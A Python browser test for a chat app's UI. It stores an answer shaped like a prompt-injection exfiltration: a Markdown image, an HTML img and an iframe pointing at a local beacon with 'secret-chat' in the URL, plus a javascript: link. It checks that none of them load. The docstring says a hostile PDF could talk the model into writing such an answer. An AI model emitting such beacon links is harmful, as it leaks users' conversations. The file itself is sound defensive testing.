"""Answers rendered in the UI never load remote resources (issue 10, item 4).

A stored answer written the way a hostile PDF would talk the model into writing it —
a Markdown image and raw HTML pointing at a "beacon" server with the chat in the URL —
is opened in real headless Chromium after a real login. Neither the page nor the
network may touch the beacon. No model answers here: the app with the UI, as
``app.py --auth`` builds it, is served on a real socket in a thread (``serve_app``).
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from settings import Settings
from storage.db import Database
from storage.history import HistoryManager

LOGIN = ("alice", "pw-" + "x" * 8)
CHROMIUM = "/usr/bin/chromium"


@pytest.fixture(scope="module")
def beacon():
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 — http.server's name
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


@pytest.fixture(scope="module")
def poisoned_url(serve_app, tmp_path_factory, beacon) -> str:
    url, _ = beacon
    data_dir: Path = tmp_path_factory.mktemp("poisoned") / "data"
    data_dir.mkdir(parents=True)
    db = Database(Settings(data_dir=data_dir).db_path)
    history = HistoryManager(db)
    conv = history.start_conversation(LOGIN[0])
    history.add_message(conv.id, "user", "Summarise the report")
    history.add_message(
        conv.id, "assistant",
        "Harmless intro. ![chart](" + url + "/md?q=secret-chat) and "
        "<img src=\"" + url + "/html?q=secret-chat\"> <iframe src=\"" + url + "/frame\"></iframe> "
        "[click me](javascript:alert(1)) **bold stays**",
    )
    db.close()
    return serve_app(auth=[f"{LOGIN[0]}:{LOGIN[1]}"], data_dir=data_dir)


@pytest.mark.browser
def test_a_poisoned_answer_loads_nothing_remote(poisoned_url, beacon) -> None:
    from playwright.sync_api import expect, sync_playwright

    url, hits = beacon
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox", "--disable-gpu"])
        try:
            context = browser.new_context()
            context.set_default_timeout(60_000)
            login = context.request.post(f"{poisoned_url}/login",
                                         form={"username": LOGIN[0], "password": LOGIN[1]})
            assert login.ok, login.text()
            page = context.new_page()
            requested: list[str] = []
            page.on("request", lambda request: requested.append(request.url))
            page.goto(poisoned_url + "/", wait_until="load")
            expect(page.locator("#chat-input textarea")).to_be_enabled(timeout=60_000)  # session loaded
            answer = page.locator("#chatbot").get_by_text("Harmless intro", exact=False)
            expect(answer).to_be_visible(timeout=60_000)
            # Markdown still renders
            expect(page.locator("#chatbot strong", has_text="bold stays")).to_be_visible(timeout=10_000)
            assert page.locator(f"#chatbot img[src^='{url}']").count() == 0
            assert page.locator("#chatbot iframe").count() == 0
            assert page.locator("#chatbot a[href^='javascript:']").count() == 0
            page.wait_for_load_state("load")
        finally:
            browser.close()
    assert not [r for r in requested if r.startswith(url)], requested
    assert hits == []
